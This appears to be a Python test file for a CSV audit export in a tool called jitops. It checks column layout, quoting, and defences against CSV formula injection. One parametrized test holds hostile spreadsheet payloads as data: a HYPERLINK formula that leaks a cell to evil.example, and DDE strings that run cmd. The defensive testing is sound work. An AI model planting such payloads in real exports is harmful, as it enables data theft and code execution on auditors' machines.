"""``jitops audit --format csv``: RFC 4180 rows a spreadsheet reads as text, never as code."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from jitops import evidence
from jitops.commands.audit import audit
from jitops.report.csv import AUDIT_COLUMNS, audit_csv
from tests.commands.test_audit import approval
from tests.gitrepo import commit_all, make_access_repo, write_request


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_one_row_per_grant_with_the_documented_columns(tmp_path: Path) -> None:
    root = make_access_repo(tmp_path / "access")
    path = write_request(root, "ok-1", duration="4h", ticket="INC-7")
    merged = commit_all(root, "grant (#7)", date="2026-11-23T09:00:00Z")
    evidence.record(root, merged, approval("ok-1", path.relative_to(root).as_posix()))
    write_request(
        root, "sneaky-1", justification="'Fix, quickly: a \"quoted\" reason, with commas'"
    )
    commit_all(root, "no review", date="2026-11-23T10:00:00Z")
    text = audit_csv(audit(root))
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    header = text.split("\r\n", 1)[0]
    assert header == ",".join(name for name, _ in AUDIT_COLUMNS)
    ok, sneaky = rows(text)
    assert ok["id"] == "ok-1" and ok["requester"] == "alice"
    assert (ok["from"], ok["until"]) == ("2026-11-23T09:00:00Z", "2026-11-23T13:00:00Z")
    assert (ok["approvers"], ok["evidence"], ok["pull_request"]) == ("bob", "approved", "7")
    assert ok["policy_commit"] == "b" * 40 and ok["ticket"] == "INC-7" and ok["problem"] == ""
    assert sneaky["justification"] == 'Fix, quickly: a "quoted" reason, with commas'
    assert sneaky["evidence"] == "none" and "no approval evidence" in sneaky["problem"]


@pytest.mark.attack(8, "a justification that runs as a formula in the auditor's spreadsheet")
@pytest.mark.parametrize(
    "written",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3 and then some more words",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ],
)
def test_what_people_wrote_never_runs_as_a_formula(tmp_path: Path, written: str) -> None:
    """A requester writes the justification an auditor's export will show; a spreadsheet
    runs a cell starting with = + - @ as a formula (CSV injection). It is written as text."""
    root = make_access_repo(tmp_path / "access")
    quoted = written.replace("'", "''")
    write_request(root, "x-1", justification=f"'{quoted} — investigating INC-1'")
    commit_all(root, "grant", date="2026-11-23T09:00:00Z")
    [row] = rows(audit_csv(audit(root)))
    assert row["justification"].startswith("'") and row["justification"][1:].startswith(written)
    assert all(not value.startswith(("=", "+", "-", "@")) for value in row.values())


def test_the_readme_documents_every_column() -> None:
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    for name, meaning in AUDIT_COLUMNS:
        assert f"| `{name}` | {meaning} |" in readme
